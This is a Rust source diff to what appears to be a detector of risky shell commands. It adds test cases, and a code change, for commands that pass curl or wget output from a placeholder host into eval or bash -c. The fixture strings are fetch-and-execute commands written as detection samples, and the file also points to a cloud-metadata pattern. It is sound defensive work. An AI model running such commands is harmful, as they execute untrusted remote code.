@@ -9,6 +9,10 @@ use crate::verdict::Decision;
 mod consumers;
 mod fetched;
 mod metadata;
+
+/// The pattern of the metadata matcher's gated regex, for the gate's generated table.
+#[cfg(test)]
+pub(super) const GATED: [&str; 1] = [metadata::CLOUD_METADATA];
 mod substitutions;
 
 pub(super) use consumers::is_network_source;
@@ -92,9 +96,13 @@ pub static FLOOR: &[Rule] = &[
             "eval $(curl http://x.example/env)",
             "sh -c \"$(curl -fsSL https://x.example/i.sh)\"",
             "bash -c \"$(wget -qO- https://x.example/i.sh)\"",
+            "bash -c \"echo $(curl -s https://x.example/c)\"",
+            "eval \"x=$(curl -s https://x.example/v)\"",
         ],
         misses: &[
             "echo \"$(curl -s https://x.example/version)\"",
+            "bash -c 'wc -l < <(curl -s https://x.example/a)'",
+            "sh -c 'v=$(curl -s https://x.example/v); echo \"$v\"'",
             "export V=$(curl -s https://x.example/v)",
             "bash build.sh \"$(curl -s https://x.example/arg)\"",
         ],
@@ -483,6 +491,12 @@ fn code_words(cmd: &Command) -> Vec<&str> {
     let mut out = Vec::new();
     if cmd.dynamic {
         out.push(cmd.path.as_str());
+    }
+    // Inline shell code that no outer expansion reached is read by the
+    // analyzer as the inner shell reads it: `bash -c 'wc -l < <(curl x)'`
+    // only counts lines, and the inner shell's own commands are judged.
+    if !cmd.args_dynamic && crate::shell::reads_code_as_shell(&cmd.program) {
+        return out;
     }
     if program_in(&cmd.program, SOURCERS) {
         out.extend(cmd.args.iter().map(String::as_str));
